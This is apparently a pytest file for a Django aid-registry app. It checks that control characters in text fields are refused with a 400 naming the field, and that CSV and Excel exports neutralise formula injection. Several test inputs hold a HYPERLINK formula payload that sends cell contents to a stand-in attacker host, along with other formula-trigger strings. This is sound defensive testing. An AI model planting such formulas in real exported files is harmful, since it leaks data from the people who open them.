"""Text in: a control character in any text field is refused with a 400 naming the field, never stored and
never a 500 (issue 13, item 3). Text out: the helpers every exporter writes text through."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from rest_framework.test import APIClient

from amity.aid.models import AidItem, Transaction
from amity.aid.tests.factories import make_aid_item, make_transaction
from amity.conftest import client_for
from amity.core.text import CsvWriter, check_text, csv_row, csv_value, set_cell, xml_text
from amity.organisations import services as organisation_services
from amity.organisations.models import Organisation, RegistrationEvent

pytestmark = pytest.mark.django_db

ORGANISATIONS = "/api/v1/organisations/"


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


# --- in ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("character", ["\x00", "\x04", "\x07", "\x0b", "\x0c", "\x1b", "\x1f", "\ufffe", "\ud800"])
def test_a_control_character_is_refused_by_the_model_naming_the_field(character):
    organisation = Organisation(name=f"Plan{character}International", kind="foreign_ngo", description=character)

    with pytest.raises(ValidationError) as refused:
        organisation.full_clean()

    assert set(refused.value.message_dict) == {"name", "description"}
    assert "U+" in refused.value.message_dict["name"][0]


def test_tab_newline_and_carriage_return_are_text():
    organisation = Organisation(name="Plan International", kind="foreign_ngo", address="Street 1\r\n\tHà Nội")
    organisation.full_clean()


def test_the_message_says_which_character_and_where():
    with pytest.raises(ValidationError) as refused:
        check_text("ab\x04c")
    assert refused.value.params == {"code": "0004", "position": 3}


def test_the_api_answers_400_naming_the_field_and_stores_nothing(users, ngo):
    client = api(users["central"])

    created = client.post(ORGANISATIONS, {"name": "Bad\u0004Name", "kind": "foreign_ngo"}, format="json")
    changed = client.patch(f"{ORGANISATIONS}{ngo.public_id}/", {"description": "a\u0007b", "version": 1}, format="json")
    nul = client.patch(f"{ORGANISATIONS}{ngo.public_id}/", {"acronym": "S\u0000V", "version": 1}, format="json")

    assert (created.status_code, list(created.json())) == (400, ["name"])
    assert (changed.status_code, list(changed.json())) == (400, ["description"])
    assert (nul.status_code, list(nul.json())) == (400, ["acronym"])
    assert not Organisation.all_objects.filter(name__contains="\u0004").exists()
    assert Organisation.objects.get(pk=ngo.pk).version == ngo.version


def test_the_page_shows_the_error_on_the_field(users, ngo):
    response = client_for(users["central"]).post(
        f"/organisations/{ngo.public_id}/edit/",
        {"name": "Stichting\u0004", "kind": ngo.kind, "status": "active", "version": ngo.version},
    )

    assert response.status_code == 400
    assert "name" in response.context["form"].errors
    assert Organisation.objects.get(pk=ngo.pk).name == ngo.name


def test_aid_items_and_transactions_refuse_it_in_their_services(users, hai_phong):
    with pytest.raises(ValidationError) as refused:
        make_aid_item(users["editor"], owning_province=hai_phong, title="Giếng\u0007nước")
    assert "title_vi" in refused.value.message_dict
    assert not AidItem.all_objects.exists()

    item = make_aid_item(users["editor"], owning_province=hai_phong)
    with pytest.raises(ValidationError) as refused:
        make_transaction(users["editor"], item, description="first\u0008tranche")
    assert "description" in refused.value.message_dict
    assert not Transaction.all_objects.exists()

    response = api(users["editor"]).patch(
        f"/api/v1/aid-items/{item.public_id}/", {"title_en": "Wells\u001b", "version": item.version}, format="json"
    )
    assert (response.status_code, list(response.json())) == (400, ["title_en"])


def test_a_registration_decision_refuses_it_in_its_note(users, ngo):
    registration = organisation_services.registration_create(
        user=users["central"],
        data={
            "organisation": ngo,
            "kind": "operation",
            "number": "001/GĐK",
            "issue_date": date(2024, 1, 15),
            "expiry_date": date(2027, 1, 14),
        },
    )

    response = api(users["central"]).post(
        f"/api/v1/registrations/{registration.public_id}/decision/",
        {"kind": "suspended", "date": "2024-06-01", "note": "see\u0004letter"},
        format="json",
    )

    assert (response.status_code, list(response.json())) == (400, ["note"])
    registration.refresh_from_db()
    assert registration.state == "in_force"
    assert not RegistrationEvent.objects.filter(note__contains="\u0004").exists()


# --- out -----------------------------------------------------------------------------------------------------


def test_xml_text_drops_what_xml_cannot_hold_and_keeps_the_rest():
    assert xml_text("Plan\u0004 Inter\u0007national\ttab\nline\r\ufffe") == "Plan International\ttab\nline\r"


def test_a_workbook_cell_holds_text_as_text_never_a_formula():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    set_cell(sheet["A1"], '=HYPERLINK("http://evil.example/?d="&A1,"Click")')
    set_cell(sheet["A2"], "Trường\u0004 học")
    set_cell(sheet["A3"], Decimal("12.50"))
    set_cell(sheet["A4"], date(2024, 1, 1))
    buffer = io.BytesIO()
    workbook.save(buffer)

    reread = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert (reread["A1"].data_type, reread["A1"].value) == ("s", '=HYPERLINK("http://evil.example/?d="&A1,"Click")')
    assert reread["A2"].value == "Trường học"
    assert reread["A3"].value == 12.5
    assert reread["A4"].is_date


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-1234.50", "-1234.50"),
        ("+5", "+5"),
        ("Trường\u0004 học", "Trường học"),
        ("a = b", "a = b"),
        (Decimal("-3.00"), Decimal("-3.00")),
        (None, None),
    ],
)
def test_a_csv_cell_is_neutralised_as_owasp_advises(value, written):
    assert csv_value(value) == written
    assert csv_row([value]) == [written]


def test_the_csv_writer_neutralises_every_row():
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(["=1+1", Decimal("-2.50"), "Hà\u0007 Nội"])
    assert buffer.getvalue() == "'=1+1,-2.50,Hà Nội\r\n"
